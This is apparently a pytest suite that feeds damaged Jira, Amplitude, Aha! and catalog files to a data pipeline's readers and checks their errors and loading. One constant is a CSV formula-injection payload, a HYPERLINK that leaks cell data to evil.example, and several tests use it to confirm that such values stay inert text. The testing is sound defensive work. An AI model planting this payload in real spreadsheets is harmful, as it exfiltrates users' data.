"""Bad tool payloads: catalog.yml, Jira's JSON pages and CSV export, Amplitude's gzipped
JSON lines and Aha!'s pages, each damaged one way and read as a refresh reads them.

JSON has no columns, so an error names the file and the record's path in it
(`issues[3].fields.created`) as its column, and the line where the format has lines
(JSON lines, YAML, CSV, a JSON syntax error).
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest
from fault_inputs import (
    SEEDS_DIR,
    UTF8_BOM,
    CsvFile,
    assert_names,
    copy_sources,
    gunzip_lines,
    gzip_lines,
    gzip_truncated,
    read,
    read_fails,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
JIRA_FILES = [
    "jira/fields.json",
    "jira/projects.json",
    "jira/statuses.json",
    "jira/issues/page_0001.json.gz",
    "jira/issues/page_0002.json.gz",
]
PAGE = "jira/issues/page_0002.json.gz"
AMPLITUDE = "analytics/amplitude/events_2026-01.json.gz"
AHA_FILES = [
    "roadmap/aha/ideas_page_0001.json.gz",
    "roadmap/aha/features_page_0001.json.gz",
    "roadmap/aha/audits_page_0001.json.gz",
]
FEATURES = "roadmap/aha/features_page_0001.json.gz"


def _load(path: Path) -> Any:
    return json.loads(gzip.decompress(path.read_bytes()))


def _save(path: Path, payload: Any, encoding: str = "utf-8", bom: bytes = b"") -> None:
    data = bom + json.dumps(payload, ensure_ascii=False).encode(encoding)
    path.write_bytes(gzip.compress(data))


def _jira(tmp_path: Path, label: str = "bad") -> Path:
    return copy_sources(tmp_path / label, "jira", only=JIRA_FILES)


def _rows(tables: dict, name: str) -> list[dict]:
    return tables[name].to_pylist()


def _in_order(rows: list[dict]) -> list[dict]:
    return sorted(rows, key=lambda row: json.dumps(row, default=str))


# --- catalog.yml -------------------------------------------------------------------


def _catalog(tmp_path: Path) -> Path:
    return copy_sources(tmp_path / "bad", "catalog")


def test_an_empty_catalog_is_refused(tmp_path):
    folder = _catalog(tmp_path)
    (folder / "catalog.yml").write_text("")

    assert_names(read_fails("catalog", folder), "catalog.yml", None, None, "YAML mapping")


def test_a_catalog_cut_off_mid_entry_names_the_line(tmp_path):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    lines = path.read_text().splitlines(keepends=True)
    cut = next(i for i, line in enumerate(lines) if line.strip().startswith("- id:") and i > 40)
    path.write_text(
        "".join(lines[:cut]) + lines[cut][: lines[cut].index("id:")] + "id: [unclosed\n"
    )

    error = read_fails("catalog", folder)

    assert error.path == "catalog.yml" and error.line == cut + 2, str(error)
    assert "expected valid YAML" in str(error)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_a_utf16_or_bom_catalog_loads_the_same_map(tmp_path, encoding):
    clean = read("catalog", copy_sources(tmp_path / "clean", "catalog"))
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))
    if encoding == "utf-16":
        assert path.read_bytes()[:2] in (b"\xff\xfe", b"\xfe\xff")

    loaded = read("catalog", folder)

    assert {k: v.to_pylist() for k, v in loaded.items()} == {
        k: v.to_pylist() for k, v in clean.items()
    }


def test_a_latin1_catalog_behind_a_utf8_bom_names_the_line(tmp_path):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    text = path.read_text().replace("name: Payments API", "name: Paiements Élan", 1)
    path.write_bytes(UTF8_BOM + text.encode("latin-1"))
    line = text[: text.index("Élan")].count("\n") + 1

    assert_names(read_fails("catalog", folder), "catalog.yml", line, None, "0xc9")


def test_a_duplicated_catalog_key_names_its_line(tmp_path):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    text = path.read_text()
    path.write_text(
        text.replace("reporting_currency: USD", "reporting_currency: USD\nreporting_currency: EUR")
    )

    line = text[: text.index("reporting_currency: USD")].count("\n") + 2

    error = read_fails("catalog", folder)

    assert error.line == line and "duplicate key 'reporting_currency'" in str(error), str(error)


def test_a_renamed_catalog_key_is_named(tmp_path):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    path.write_text(path.read_text().replace("rnd_accounts:", "rd_accounts:"))

    error = read_fails("catalog", folder)

    assert "rd_accounts" in str(error) and error.line is not None, str(error)


@pytest.mark.parametrize("written", ["03/01/2019", "01.03.2019", "March 2019"])
def test_a_launch_date_in_another_format_is_refused_at_its_line(tmp_path, written):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    text = path.read_text()
    original = text[text.index("launched_on: ") :].split("\n", 1)[0]
    path.write_text(text.replace(original, f"launched_on: {written}", 1))
    line = text[: text.index(original)].count("\n") + 1

    error = read_fails("catalog", folder)

    assert error.line == line and "launched_on" in str(error.column), str(error)


def test_a_loading_factor_with_a_decimal_comma_is_refused(tmp_path):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    text = path.read_text()
    original = text[text.index("loading_factor: ") :].split("\n", 1)[0]
    path.write_text(text.replace(original, "loading_factor: 1,30", 1))

    error = read_fails("catalog", folder)

    assert "loading_factor" in str(error.column) and "1,30" in str(error), str(error)


def test_a_formula_as_a_product_name_is_inert_text(tmp_path):
    folder = _catalog(tmp_path)
    path = folder / "catalog.yml"
    path.write_text(path.read_text().replace("name: Payments API", f"name: '{FORMULA}'", 1))

    products = read("catalog", folder)["catalog__products"].to_pylist()

    assert [p["product_name"] for p in products if p["product_id"] == "payments_api"] == [FORMULA]


# --- Jira JSON pages ---------------------------------------------------------------


def test_an_empty_jira_page_is_refused_by_name(tmp_path):
    folder = _jira(tmp_path)
    (folder / PAGE).write_bytes(b"")

    assert_names(read_fails("jira", folder), PAGE, None, None, "empty")


def test_a_jira_page_cut_off_mid_download_is_refused_by_name(tmp_path):
    folder = _jira(tmp_path)
    gzip_truncated(folder / PAGE)

    assert_names(read_fails("jira", folder), PAGE, None, None, "readable file")


def test_a_jira_page_whose_json_stops_half_way_names_the_line(tmp_path):
    folder = _jira(tmp_path)
    text = json.dumps(_load(folder / PAGE), indent=1)
    (folder / PAGE).write_bytes(gzip.compress(text[: len(text) // 2].encode()))

    error = read_fails("jira", folder)

    assert error.path == PAGE and error.line is not None and error.line > 100, str(error)
    assert "expected JSON" in str(error)


def test_utf16_jira_pages_load_the_same_issues(tmp_path):
    clean = read("jira", _jira(tmp_path, "clean"))
    folder = _jira(tmp_path)
    _save(folder / PAGE, _load(folder / PAGE), encoding="utf-16")

    loaded = read("jira", folder)

    # Compared in a fixed order: the DuckDB page reader's row order is not (needs not be),
    # and UTF-16 pages are read by the Python reader.
    for table in ("jira__issues", "jira__changelog"):
        assert _in_order(_rows(loaded, table)) == _in_order(_rows(clean, table))


def test_a_latin1_jira_page_behind_a_utf8_bom_is_refused_at_its_line(tmp_path):
    folder = _jira(tmp_path)
    page = _load(folder / PAGE)
    page["issues"][0]["fields"]["summary"] = "Résumé"
    text = json.dumps(page, ensure_ascii=False, indent=1)
    (folder / PAGE).write_bytes(gzip.compress(UTF8_BOM + text.encode("latin-1")))
    line = text[: text.index("Résumé")].count("\n") + 1

    assert_names(read_fails("jira", folder), PAGE, line, None, "0xe9")


def test_an_issue_repeated_on_a_later_page_is_kept_once(tmp_path):
    clean = read("jira", _jira(tmp_path, "clean"))
    folder = _jira(tmp_path)
    first = _load(folder / "jira/issues/page_0001.json.gz")
    page = _load(folder / PAGE)
    page["issues"] += first["issues"][:5]
    _save(folder / PAGE, page)

    loaded = read("jira", folder)

    assert len(_rows(loaded, "jira__issues")) == len(_rows(clean, "jira__issues")) == 200
    assert len(_rows(loaded, "jira__changelog")) == len(_rows(clean, "jira__changelog"))


def test_a_page_whose_issues_list_is_renamed_is_refused(tmp_path):
    folder = _jira(tmp_path)
    page = _load(folder / PAGE)
    page["results"] = page.pop("issues")
    _save(folder / PAGE, page)

    assert_names(read_fails("jira", folder), PAGE, None, "issues", "'issues' list")


@pytest.mark.parametrize("written", ["04/03/2025 10:11", "2025/03/04 10:11:12", "4 Mar 2025"])
def test_an_issue_date_in_another_format_names_the_issue_and_field(tmp_path, written):
    folder = _jira(tmp_path)
    page = _load(folder / PAGE)
    page["issues"][7]["fields"]["created"] = written
    _save(folder / PAGE, page)

    error = read_fails("jira", folder)

    assert (error.path, error.column) == (PAGE, "issues[7].fields.created"), str(error)
    assert repr(written) in str(error)


def test_a_formula_in_an_issue_summary_lands_as_inert_text(tmp_path):
    folder = _jira(tmp_path)
    page = _load(folder / PAGE)
    page["issues"][3]["fields"]["summary"] = FORMULA
    key = page["issues"][3]["key"]
    _save(folder / PAGE, page)

    issues = _rows(read("jira", folder), "jira__issues")

    assert [i["summary"] for i in issues if i["issue_key"] == key] == [FORMULA]


def test_jira_pages_ten_times_the_usual_size_load_every_issue(tmp_path):
    clean = read("jira", _jira(tmp_path, "clean"))
    folder = _jira(tmp_path)
    for number in (1, 2):
        page = _load(folder / f"jira/issues/page_{number:04d}.json.gz")
        for copy in range(1, 10):
            for issue in page["issues"]:
                issue = json.loads(json.dumps(issue))
                issue["id"] = f"{issue['id']}{copy}"
                for history in issue.get("changelog", {}).get("histories", []):
                    history["id"] = f"{history['id']}{copy}"
                page_number = 10 * copy + number
                path = folder / f"jira/issues/page_{page_number:04d}.json.gz"
                extra = _load(path) if path.exists() else {"issues": []}
                extra["issues"].append(issue)
                _save(path, extra)

    loaded = read("jira", folder)

    assert len(_rows(loaded, "jira__issues")) == 10 * len(_rows(clean, "jira__issues")) == 2000
    assert len(_rows(loaded, "jira__changelog")) == 10 * len(_rows(clean, "jira__changelog"))


# --- Jira CSV export ---------------------------------------------------------------


def _jira_csv(tmp_path: Path) -> tuple[Path, CsvFile]:
    """A Jira "Export → CSV" of the demo's first page of issues, in Jira's own layout."""
    folder = copy_sources(tmp_path / "csv", "jira", only=[])
    (folder / "jira").mkdir()
    issues = _load(SEEDS_DIR / "jira/issues/page_0001.json.gz")["issues"]
    header = ["Summary", "Issue key", "Issue id", "Issue Type", "Status", "Project key"]
    header += ["Created", "Updated", "Labels", "Labels", "Custom field (Story Points)"]
    rows = []
    for issue in issues:
        fields = issue["fields"]
        labels = (fields.get("labels") or []) + ["", ""]
        rows.append(
            [
                fields["summary"],
                issue["key"],
                issue["id"],
                fields["issuetype"]["name"],
                fields["status"]["name"],
                fields["project"]["key"],
                "04/Mar/25 10:11 AM",
                "05/Mar/25 4:12 PM",
                labels[0],
                labels[1],
                "3",
            ]
        )
    return folder, CsvFile(header, rows)


@pytest.mark.parametrize("encoding", ["utf-16", "cp1252"])
def test_a_jira_csv_export_in_utf16_or_windows_1252_loads(tmp_path, encoding):
    folder, export = _jira_csv(tmp_path)
    export.set(0, "Summary", "Café Zürich")
    export.write(folder / "jira/export.csv", encoding=encoding)

    issues = _rows(read("jira", folder), "jira__issues")

    assert len(issues) == 100
    assert issues[0]["summary"] == "Café Zürich"
    assert issues[0]["story_points"] == 3.0


def test_a_latin1_jira_csv_behind_a_utf8_bom_names_line_and_column(tmp_path):
    folder, export = _jira_csv(tmp_path)
    export.set(4, "Status", "Terminé")
    export.write(folder / "jira/export.csv", encoding="latin-1", bom=UTF8_BOM)

    assert_names(read_fails("jira", folder), "jira/export.csv", 6, "Status", "0xe9")


def test_an_empty_or_cut_jira_csv_is_refused_by_line(tmp_path):
    folder, export = _jira_csv(tmp_path)
    path = export.write(folder / "jira/export.csv")
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b"\n", len(data) // 2) + 10])
    line = data[: data.index(b"\n", len(data) // 2)].count(b"\n") + 2

    assert_names(read_fails("jira", folder), "jira/export.csv", line, None, "fields")

    path.write_bytes(b"")
    assert_names(read_fails("jira", folder), "jira/export.csv", 1, None, "empty")


def test_a_jira_csv_with_semicolons_or_without_issue_id_is_refused_at_the_header(tmp_path):
    folder, export = _jira_csv(tmp_path)
    export.write(folder / "jira/export.csv", delimiter=";")
    assert_names(read_fails("jira", folder), "jira/export.csv", 1, "Issue key")

    export.drop("Issue id")
    export.write(folder / "jira/export.csv")
    assert_names(read_fails("jira", folder), "jira/export.csv", 1, "Issue id")


def test_a_jira_csv_issue_exported_twice_is_kept_once_with_its_latest_update(tmp_path):
    folder, export = _jira_csv(tmp_path)
    again = list(export.rows[2])
    again[export.column("Updated")] = "06/Mar/25 9:00 AM"
    again[export.column("Status")] = "Done"
    export.rows.append(again)
    export.write(folder / "jira/export.csv")

    issues = _rows(read("jira", folder), "jira__issues")

    assert len(issues) == 100
    assert [i["status"] for i in issues if i["issue_id"] == again[2]] == ["Done"]


@pytest.mark.parametrize("written", ["2025-03-04 10:11", "04/Mar/25 10:11 AM", "04/Mar/2025 10:11"])
def test_jira_csv_dates_in_jira_formats_load_as_utc(tmp_path, written):
    folder, export = _jira_csv(tmp_path)
    export.map("Created", lambda _: written)
    export.write(folder / "jira/export.csv")

    issues = _rows(read("jira", folder), "jira__issues")

    assert {i["created_at"].isoformat() for i in issues} == {"2025-03-04T10:11:00"}


def test_a_jira_csv_date_in_a_day_month_number_format_is_refused(tmp_path):
    folder, export = _jira_csv(tmp_path)
    export.set(9, "Created", "04/03/2025 10:11")
    export.write(folder / "jira/export.csv")

    assert_names(read_fails("jira", folder), "jira/export.csv", 11, "Created", "04/03/2025")


def test_a_formula_in_a_jira_csv_summary_lands_as_inert_text(tmp_path):
    folder, export = _jira_csv(tmp_path)
    export.set(5, "Summary", FORMULA)
    export.write(folder / "jira/export.csv")

    issues = _rows(read("jira", folder), "jira__issues")

    assert issues[5]["summary"] == FORMULA


# --- Amplitude ---------------------------------------------------------------------


def _amplitude(tmp_path: Path, label: str = "bad") -> Path:
    return copy_sources(tmp_path / label, "analytics", only=[AMPLITUDE])


def _events(tables: dict) -> list[dict]:
    return _rows(tables, "analytics__events")


def test_an_empty_amplitude_file_is_refused_but_an_empty_export_loads_nothing(tmp_path):
    folder = _amplitude(tmp_path)
    (folder / AMPLITUDE).write_bytes(b"")
    assert_names(read_fails("analytics", folder), AMPLITUDE, 1, None, "empty")

    (folder / AMPLITUDE).write_bytes(gzip.compress(b""))
    assert _events(read("analytics", folder)) == []


def test_an_amplitude_file_cut_off_mid_download_is_refused(tmp_path):
    folder = _amplitude(tmp_path)
    gzip_truncated(folder / AMPLITUDE)

    error = read_fails("analytics", folder)

    assert error.path == AMPLITUDE and "readable file" in str(error), str(error)


def test_an_amplitude_line_cut_in_half_names_its_line(tmp_path):
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    lines[99] = lines[99][: len(lines[99]) // 2]
    gzip_lines(folder / AMPLITUDE, lines)

    assert_names(read_fails("analytics", folder), AMPLITUDE, 100, None, "JSON object")


def test_utf16_amplitude_lines_load_the_same_events(tmp_path):
    clean = _events(read("analytics", _amplitude(tmp_path, "clean")))
    folder = _amplitude(tmp_path)
    gzip_lines(folder / AMPLITUDE, gunzip_lines(folder / AMPLITUDE), encoding="utf-16")

    assert _events(read("analytics", folder)) == clean


def test_latin1_amplitude_lines_name_the_first_bad_line(tmp_path):
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    lines[41] = lines[41].replace('"country":"', '"country":"Côte ', 1)
    (folder / AMPLITUDE).write_bytes(gzip.compress(("\n".join(lines) + "\n").encode("latin-1")))

    assert_names(read_fails("analytics", folder), AMPLITUDE, 42, None, "0xf4")


def test_a_repeated_amplitude_event_is_kept_once(tmp_path):
    clean = _events(read("analytics", _amplitude(tmp_path, "clean")))
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    gzip_lines(folder / AMPLITUDE, lines + lines[:500])

    assert _events(read("analytics", folder)) == clean


@pytest.mark.parametrize(
    ("key", "column"), [("event_time", "event_time"), ("$insert_id", "$insert_id")]
)
def test_an_amplitude_export_without_a_needed_field_names_line_and_field(tmp_path, key, column):
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    event = json.loads(lines[0])
    event["renamed_" + key] = event.pop(key)
    event.pop("uuid", None)
    lines[0] = json.dumps(event)
    gzip_lines(folder / AMPLITUDE, lines)

    assert_names(read_fails("analytics", folder), AMPLITUDE, 1, column, "expected")


@pytest.mark.parametrize("written", ["01/01/2026 00:00:23", "2026-01-01 12:00:23 AM", "1767225623"])
def test_an_event_time_in_another_format_names_line_and_field(tmp_path, written):
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    event = json.loads(lines[9])
    event["event_time"] = written
    lines[9] = json.dumps(event)
    gzip_lines(folder / AMPLITUDE, lines)

    assert_names(read_fails("analytics", folder), AMPLITUDE, 10, "event_time", "timestamp")


def test_a_formula_as_an_event_type_lands_as_inert_text(tmp_path):
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    event = json.loads(lines[2])
    event["event_type"] = FORMULA
    lines[2] = json.dumps(event)
    gzip_lines(folder / AMPLITUDE, lines)

    events = _events(read("analytics", folder))

    assert [e["event_type"] for e in events if e["event_id"] == event["$insert_id"]] == [FORMULA]


def test_amplitude_files_ten_times_the_usual_size_load_every_event(tmp_path):
    clean = _events(read("analytics", _amplitude(tmp_path, "clean")))
    folder = _amplitude(tmp_path)
    lines = gunzip_lines(folder / AMPLITUDE)
    for copy in range(1, 10):
        copied = [line.replace('"$insert_id":"', f'"$insert_id":"{copy}-', 1) for line in lines]
        gzip_lines(folder / f"analytics/amplitude/events_2026-01-copy{copy}.json.gz", copied)

    events = _events(read("analytics", folder))

    assert len(events) == 10 * len(clean)
    assert len({e["event_id"] for e in events}) == 10 * len(clean)


# --- Aha! pages --------------------------------------------------------------------


def _aha(tmp_path: Path, label: str = "bad") -> Path:
    return copy_sources(tmp_path / label, "roadmap", only=AHA_FILES)


def test_an_empty_or_cut_aha_page_is_refused_by_name(tmp_path):
    folder = _aha(tmp_path)
    (folder / FEATURES).write_bytes(b"")
    assert_names(read_fails("roadmap", folder), FEATURES, None, None, "empty")

    folder = _aha(tmp_path, "cut")
    gzip_truncated(folder / FEATURES)
    assert_names(read_fails("roadmap", folder), FEATURES, None, None, "readable file")


def test_a_utf16_aha_page_loads_the_same_features(tmp_path):
    clean = read("roadmap", _aha(tmp_path, "clean"))
    folder = _aha(tmp_path)
    _save(folder / FEATURES, _load(folder / FEATURES), encoding="utf-16")

    assert _rows(read("roadmap", folder), "roadmap__features") == _rows(clean, "roadmap__features")


def test_a_feature_repeated_on_a_later_page_is_kept_once(tmp_path):
    clean = read("roadmap", _aha(tmp_path, "clean"))
    folder = _aha(tmp_path)
    page = _load(folder / FEATURES)
    _save(folder / "roadmap/aha/features_page_0002.json.gz", {"features": page["features"][:10]})

    assert len(_rows(read("roadmap", folder), "roadmap__features")) == len(
        _rows(clean, "roadmap__features")
    )


def test_a_renamed_records_list_or_id_is_refused_by_path(tmp_path):
    folder = _aha(tmp_path)
    page = _load(folder / FEATURES)
    page["feature"] = page.pop("features")
    _save(folder / FEATURES, page)
    assert_names(read_fails("roadmap", folder), FEATURES, None, "features", "'features' list")

    page["features"] = page.pop("feature")
    page["features"][4]["identifier"] = page["features"][4].pop("id")
    _save(folder / FEATURES, page)
    assert_names(read_fails("roadmap", folder), FEATURES, None, "features[4].id", "record id")


@pytest.mark.parametrize("written", ["03/31/2025", "31.03.2025", "Q1 2025"])
def test_a_release_date_in_another_format_names_the_feature(tmp_path, written):
    folder = _aha(tmp_path)
    page = _load(folder / FEATURES)
    index = next(i for i, f in enumerate(page["features"]) if f.get("release"))
    page["features"][index]["release"]["release_date"] = written
    _save(folder / FEATURES, page)

    error = read_fails("roadmap", folder)

    assert (error.path, error.column) == (FEATURES, f"features[{index}].release.release_date")
    assert repr(written) in str(error)


def test_a_formula_as_a_feature_name_lands_as_inert_text(tmp_path):
    folder = _aha(tmp_path)
    page = _load(folder / FEATURES)
    page["features"][0]["name"] = FORMULA
    _save(folder / FEATURES, page)

    features = _rows(read("roadmap", folder), "roadmap__features")

    assert [f["name"] for f in features if f["feature_id"] == page["features"][0]["id"]] == [
        FORMULA
    ]


def test_aha_pages_ten_times_the_usual_size_load_every_feature(tmp_path):
    clean = read("roadmap", _aha(tmp_path, "clean"))
    folder = _aha(tmp_path)
    page = _load(folder / FEATURES)
    for copy in range(1, 10):
        copied = json.loads(json.dumps(page))
        for feature in copied["features"]:
            feature["id"] = f"{feature['id']}{copy}"
        _save(folder / f"roadmap/aha/features_page_{copy + 1:04d}.json.gz", copied)

    features = _rows(read("roadmap", folder), "roadmap__features")

    assert len(features) == 10 * len(_rows(clean, "roadmap__features"))
